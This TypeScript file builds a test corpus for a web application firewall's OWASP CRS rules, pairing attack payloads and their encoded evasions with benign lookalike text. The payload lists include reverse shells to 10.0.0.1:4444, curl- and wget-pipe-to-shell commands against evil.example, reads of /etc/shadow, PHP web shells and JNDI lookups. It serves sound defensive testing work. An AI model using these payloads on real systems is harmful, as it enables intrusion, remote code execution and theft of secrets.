// A corpus per OWASP CRS family, written for the CRS engine (issue 14): the issue's own
// missed payloads and false positives, evasive variants of each attack in every request
// location, and benign traffic that looks dangerous, by category. Every fourth sample
// (by position) is held out: reported apart, never looked at while tuning.
import type { Sample } from './waf-corpus.js';

export type CrsFamily = 'sqli' | 'xss' | 'lfi' | 'rfi' | 'rce' | 'php' | 'java' | 'nodejs' | 'session-fixation';
export interface CrsSample extends Omit<Sample, 'family'> { family: CrsFamily | 'benign'; category?: string; heldOut?: boolean }

/** Where Strata's own grammars travel: a records list query (REST) and a Connect List message (JSON). */
export const RECORDS_LIST = '/api/collections/posts/records';
export const CONNECT_LIST = '/strata.posts.RecordService/List';

const BASE: Record<CrsFamily, string[]> = {
  sqli: [") UNION ALL SELECT NULL,NULL,NULL--", "foo')waitfor delay'5:0:20'--", 'sELecT slEep (10 +6)', "1' union select password from users--", "' or '1'='1", "1 and 1=1",
    "admin'--", "1;drop table users", "' having 1=1--", "1' order by 3--+", "x' and extractvalue(1,concat(0x7e,version()))--", "1 or benchmark(10000000,md5(1))"],
  xss: ['<script>alert(1)</script>', '<link href="//evil.example/x.js" rel=stylesheet>', 'style=color:red;background:url(javascript:alert(1))', '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>', 'javascript:alert(document.cookie)', '<iframe src="javascript:alert(1)">', '"><body onload=alert(1)>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>'],
  lfi: ['cat /etc/subuid', '../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/shadow', '....//....//etc/passwd', '../.env', '/proc/self/environ', '..%c0%af..%c0%afetc/passwd'],
  rfi: ['http://10.0.0.1/shell.txt?', 'https://evil.example/x.php?', 'ftp://192.168.0.1/a.txt', 'include(http://evil.example/s.txt)', 'http://127.0.0.1/x?', 'file://169.254.169.254/latest'],
  rce: ['time sh -c whoami', ';cat /etc/passwd', '| id', '$(whoami)', '`id`', '; wget http://evil.example/x.sh', '&& ping -c 10 127.0.0.1', '|| curl evil.example|sh', ';bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'cmd.exe /c dir', 'powershell -enc SQBFAFgA', '${IFS}cat${IFS}/etc/passwd'],
  php: ['<?php system($_GET["c"]); ?>', '<?= `id` ?>', 'php://filter/convert.base64-encode/resource=index.php', 'eval($_POST["x"])', 'O:8:"stdClass":1:{s:4:"a";s:1:"b";}', 'base64_decode($_REQUEST[x])', 'phpinfo()'],
  java: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example/a}', 'java.lang.Runtime.getRuntime().exec("id")', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', '${T(java.lang.Runtime).getRuntime().exec("id")}', 'class.module.classLoader.resources'],
  nodejs: ["require('child_process').exec('id')", "process.mainModule.require('child_process')", "this.constructor.constructor('return process')()"],
  'session-fixation': ['<meta http-equiv="Set-Cookie" content="sessionid=abc">', 'document.cookie="PHPSESSID=1234"', '<script>document.cookie="jsessionid=x"</script>'],
};

/** Evasions a client can apply to any payload: encodings, case, comments, whitespace, concatenation. */
const EVASIONS: Array<[string, (v: string) => string]> = [
  ['plain', (v) => v],
  ['urlencoded', (v) => encodeURIComponent(v)],
  ['double-encoded', (v) => encodeURIComponent(encodeURIComponent(v))],
  ['mixed-case', (v) => v.replace(/[a-z]/g, (c, i: number) => (i % 2 === 0 ? c.toUpperCase() : c))],
  ['sql-comment', (v) => v.replace(/ /g, '/**/')],
  ['tabs-newlines', (v) => v.replace(/ /g, '\t\n')],
  ['html-entities', (v) => v.replace(/[<>'"]/g, (c) => `&#${c.charCodeAt(0)};`)],
  ['null-padded', (v) => `${v}%00`],
];

/** Where a value travels: the samples' `where` (query, JSON body, form, header, path, multipart file name, XML). */
const WHERE: Sample['where'][] = ['query', 'json', 'form', 'header', 'xml', 'path'];

/**
 * Added by the third WAF pass (issue 14), written before their first run and appended after the
 * first list so no earlier sample moves (held-out positions stay): more unseen payloads per
 * family, through the same evasions and locations.
 */
const BASE2: Record<CrsFamily, string[]> = {
  sqli: ["1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--", "' OR 1=1 LIMIT 1 OFFSET 0--",
    '1 AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>100', "';SELECT pg_sleep(7)--", "1'||(SELECT CHR(65))||'", "' UNION SELECT @@version,NULL#", "admin' AND '1'='1' /*",
    '-1 OR 1 IN (SELECT TOP 1 name FROM sysobjects)'],
  xss: ['<svg><script>alert(1)</script></svg>', '<img src=1 onerror="eval(atob(\'YWxlcnQoMSk=\'))">', '<a href="javascript&colon;alert(1)">x</a>', '<input onfocus=alert(1) autofocus>',
    '<x contenteditable onblur=alert(1)>lose focus', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', '"><img src=x:x onerror=alert(1)>', "<style>@import 'javascript:alert(1)';</style>"],
  lfi: ['../../../../etc/group', '/etc/gshadow', '..\\..\\..\\boot.ini', '....\\/....\\/etc/passwd', 'tail -n 20 /etc/shadow', '/proc/self/cmdline', '..%2f..%2f..%2fetc%2fhosts', 'file:///c:/windows/win.ini'],
  rfi: ['http://evil.example/shell.txt', 'https://attacker.example/c99.php%00', 'ftp://evil.example/x.txt', "require_once('https://evil.example/inc.php')", 'http://evil.example/x.txt#', '//evil.example/shell.txt?'],
  rce: ['; nc -e /bin/sh 10.0.0.1 4444', '| /bin/busybox telnetd -l /bin/sh', '$(curl -s http://evil.example/x)', '&& rm -rf /tmp/x', '\ncat /etc/passwd', "; python -c 'import os;os.system(\"id\")'",
    '`wget evil.example -O-|sh`', '|| echo pwned > /tmp/p'],
  php: ["<?php echo shell_exec($_GET['c']); ?>", "system('id');", "assert($_REQUEST['x'])", 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+', 'a:1:{i:0;O:8:"Exploit":0:{}}',
    "preg_replace('/.*/e', $_GET['c'], '')"],
  java: ['${jndi:dns://evil.example/a}', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://evil.example/a}', "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#rt=@java.lang.Runtime@getRuntime().exec('id'))}", 'java.lang.ProcessBuilder', 'class.classLoader.URLs[0]=http://evil.example'],
  nodejs: ["require('child_process').execSync('id')", "global.process.mainModule.constructor._load('child_process')", "new Function('return process')()"],
  'session-fixation': ['<meta http-equiv="set-cookie" content="PHPSESSID=fixed">', "document.cookie='sessionid=fixed;path=/'"],
};

/** How many attack samples the first list makes (the third pass's samples follow). */
export const FIRST_CRS_ATTACKS = 536;

export function crsAttacks(): CrsSample[] {
  return mark([...generate(BASE), ...generate(BASE2)]);
}

function generate(base: Record<CrsFamily, string[]>): CrsSample[] {
  const out: CrsSample[] = [];
  for (const [family, payloads] of Object.entries(base) as Array<[CrsFamily, string[]]>) {
    payloads.forEach((p, i) => {
      for (const [variant, f] of EVASIONS) {
        const v = f(p);
        // urlencoded variants only where the transport decodes them (query, form, path)
        const where = WHERE[(i + variant.length) % WHERE.length];
        if ((variant === 'urlencoded' || variant === 'double-encoded' || variant === 'null-padded') && (where === 'json' || where === 'header' || where === 'xml')) {
          out.push({ family, variant, where: 'query', name: 'q', value: v });
          continue;
        }
        if (where === 'xml') { out.push({ family, variant, where, value: `<r><v>${v.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</v></r>` }); continue; }
        if (where === 'header') { out.push({ family, variant, where, name: 'x-custom', value: v.replace(/[\r\n]/g, ' ') }); continue; }
        if (where === 'path') { out.push({ family, variant, where, value: encodeURIComponent(v) }); continue; }
        out.push({ family, variant, where, name: where === 'json' ? 'comment' : 'q', value: v });
      }
    });
  }
  return out;
}

/** Random prose up to 3,000 characters (deterministic). */
function prose(seed: number, len: number): string {
  const words = ['the', 'select', 'union', 'from', 'where', 'drop', 'table', 'order', 'by', 'and', 'or', 'script', 'alert', 'cat', 'echo', 'ping', 'time', 'sh', 'exec', 'java', 'runtime', 'php', 'include',
    'a', 'we', 'it', "it's", "don't", 'data', 'file', 'path', 'user', 'admin', 'update', 'insert', 'into', 'values', 'delete', 'like', 'having', 'group', 'count', 'sleep', 'wait', '—', 'naïve', '日本語', 'Ünïcödé', 'и', 'ok.', 'yes,', '(see', 'note)', '1', '2', '100%', '&', '<3'];
  let s = '';
  let x = seed;
  while (s.length < len) { x = (x * 1103515245 + 12345) % 2147483648; s += `${words[x % words.length]} `; }
  return s.slice(0, len);
}

const BENIGN: Record<string, string[]> = {
  names: ["O'Brien", "D'Angelo-Smith", "Renée O'Connor", "Ngũgĩ wa Thiong'o", "Mary-Jane D'Arcy", "Shaquille O'Neal"],
  'sql-prose': ['Please select the best option from the union of both lists', 'We will drop the table tennis class and update the schedule', 'Order by date, then group by team; count the votes',
    "The workers' union voted to select a new leader and drop the old rules", 'Insert the card into the reader, then delete the old values', 'having fun? sleep well and wait for the update'],
  markdown: ['```sql\nSELECT id, name FROM users WHERE active = 1;\n```', '```bash\nnpm install && npm test\n```', '# Title\n\nSome *markdown* with `code` and a [link](https://example.com).',
    '```js\nconst x = await fetch(url);\nconsole.log(x);\n```', '> quote\n\n- item one\n- item two\n\n`a && b || c`', '```python\nif x > 0:\n    print("ok")\n```'],
  'rich-text': ['<p>Hello <b>world</b></p>', '<p><a href="https://example.com">link</a> and <em>emphasis</em></p>', '<ul><li>one</li><li>two</li></ul>', '<h2>Title</h2><p>Text with <code>code</code></p>',
    '<blockquote>quoted</blockquote>', '<img src="https://cdn.example.com/a.png" alt="a picture">'],
  search: ['title:"hello world" -draft', 'tag:js OR tag:ts', 'price:[10 TO 100]', '"exact phrase" +must -not', "it's", "rock 'n' roll", 'C# vs C++', 'a OR b AND NOT c'],
  'strata-filter': ['title ~ "where"', 'price >= 10 && price < 100 && email ~ "%@example.com"', "(status = 'published' && author != '')", 'created > "2026-01-01" || tags ?= "news"', "name ~ 'O''Brien'", 'count > 5 && (a = 1 || b = 2)'],
  'oauth-redirect': ['http://localhost:5173/auth/callback', 'http://localhost:3000/callback?state=abc', 'http://127.0.0.1:8080/oauth/callback', 'https://app.example.com/auth/callback?code=x&state=y', 'myapp://callback', 'http://[::1]:5173/cb'],
  'data-uri': ['data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'data:text/plain;charset=utf-8,hello%20world', 'data:application/json,{"a":1}',
    'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='],
  i18n: ['日本語のテキストです', 'Привет, мир! Как дела?', 'مرحبا بالعالم', 'Ελληνικά κείμενο', '中文测试：选择、联合、删除', 'עברית טקסט', 'Tiếng Việt có dấu', '😀 emoji 🚀 text'],
  'random-text': [prose(1, 200), prose(2, 800), prose(3, 1500), prose(4, 3000), prose(5, 400), prose(6, 2200)],
  // added after the first runs (appended, so earlier samples keep their held-out positions)
  'full-text': ['title @@ "\'"', 'title @@ "it\'s"', 'body @@ "rock \'n\' roll" && price > 3', 'title @@ "select * from"', 'title @@ "<b>"', 'title @@ "C#"', 'title @@ "O\'Brien"', 'title @@ "\" or \""'],
  // issue 23 item 8: random text (letters, digits, punctuation, spaces) up to 3,000 characters
  'random-chars': Array.from({ length: 24 }, (_, i) => randomText(100 + i, 50 + ((i * 977) % 2950))),
  // third pass (appended categories; written before their first run)
  'rich-text-2': ['<p>See the <a href="/docs/getting-started">guide</a> and <a href="https://example.org/faq#q2" target="_blank" rel="noopener">FAQ</a>.</p>',
    '<figure><img src="https://images.example.net/2026/05/cat.jpg" alt="Our cat, asleep" width="640" height="480"><figcaption>Asleep again</figcaption></figure>',
    '<table><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody><tr><td>Basic</td><td>$5</td></tr></tbody></table>', '<h3>Release notes</h3><ol><li>Faster <code>select</code> boxes</li><li>Fixed the <em>union</em> filter</li></ol>',
    '<p>Email <a href="mailto:support@example.com">support</a> or call us.</p><br><p>Thanks!</p>', '<blockquote cite="https://example.com/quote"><p>Stay hungry.</p></blockquote>',
    '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="dot"> a pixel</p>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="currentColor"/></svg>'],
  'markdown-2': ['## Setup\n\n```bash\ngit clone https://github.com/example/app.git\ncd app && npm ci\n```', 'Run the migration:\n\n```sql\nALTER TABLE posts ADD COLUMN slug TEXT;\nUPDATE posts SET slug = lower(title);\n```',
    '1. Open a terminal\n2. Type `ls -la` and press Enter\n3. Check the output', '```sh\nexport PATH=$HOME/.local/bin:$PATH\necho $PATH\n```', '> **Note**: use `SELECT ... FOR UPDATE` when you read and then write.',
    '### Query\n\n```sql\nSELECT u.name, count(*) FROM users u JOIN orders o ON o.user_id = u.id GROUP BY u.name HAVING count(*) > 5;\n```'],
  'prose-2': ['If you want to drop me a line, select a time that suits you and I will update the calendar.', 'The union of the two sets is where the interesting cases are, as the table shows.',
    'Please echo back what you heard, then sleep on it and ping me tomorrow.', 'We ran a time trial, cat naps included, and the kids loved the whole thing.',
    'Our sales team will insert the new values into the sheet and delete the old rows by Friday.', 'She said: "it\'s the order by which the group was chosen that matters, not the count."'],
  placeholders: ['Hello ${firstName}, your order ${orderId} has shipped.', 'Dear {{ user.name }}, welcome aboard!', 'Use $HOME/.config/app.yaml for settings', 'Price: ${{price}} per month',
    'Template: `Hi ${name}` renders the name', 'Set PATH=${PATH}:/opt/tools in your profile'],
  'local-urls': ['Open http://localhost:3000/dashboard to see it', 'http://127.0.0.1:5173/', 'The dev server runs at http://localhost:8080/api', 'Callback set to http://localhost:4200/login/callback'],
};

/** Random printable text (deterministic): words of random letters with digits and punctuation between. */
function randomText(seed: number, len: number): string {
  const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
  const punct = [' ', ' ', ' ', ' ', ', ', '. ', '; ', ' - ', ' & ', ' | ', "'", '"', '(', ') ', '/', ': ', '? ', '! ', '\n', '#', '=', '<', '>', '*', '+'];
  let s = '';
  let x = seed;
  const next = () => (x = (x * 1103515245 + 12345) % 2147483648);
  while (s.length < len) {
    const n = 1 + (next() % 9);
    for (let k = 0; k < n; k++) s += alphabet[next() % alphabet.length];
    s += punct[next() % punct.length];
  }
  return s.slice(0, len);
}

export function crsBenign(): CrsSample[] {
  const out: CrsSample[] = [];
  for (const [category, values] of Object.entries(BENIGN)) {
    values.forEach((v, i) => {
      const where: Sample['where'] = i % 2 === 0 ? 'json' : 'query';
      const name = category === 'oauth-redirect' ? 'redirectURL' : category === 'strata-filter' || category === 'full-text' ? 'filter' : category === 'search' ? 'q' : 'comment';
      // Strata's filter language is sent where Strata reads it: the records list, over REST and Connect
      const path = category === 'strata-filter' || category === 'full-text' ? (where === 'query' ? RECORDS_LIST : CONNECT_LIST) : undefined;
      out.push({ family: 'benign', category, variant: category, where, name, value: v, ...(path ? { path } : {}) });
    });
  }
  return mark(out);
}

/** Marks every fourth sample as held out (for the anchor harness, which reads `heldOut`). */
function mark(list: CrsSample[]): CrsSample[] {
  list.forEach((s, i) => { s.heldOut = i % 4 === 3; });
  return list;
}

/** Every fourth sample is held out (never tuned against). */
export const heldOut = <T>(list: T[]): T[] => list.filter((_, i) => i % 4 === 3);
export const tuning = <T>(list: T[]): T[] => list.filter((_, i) => i % 4 !== 3);
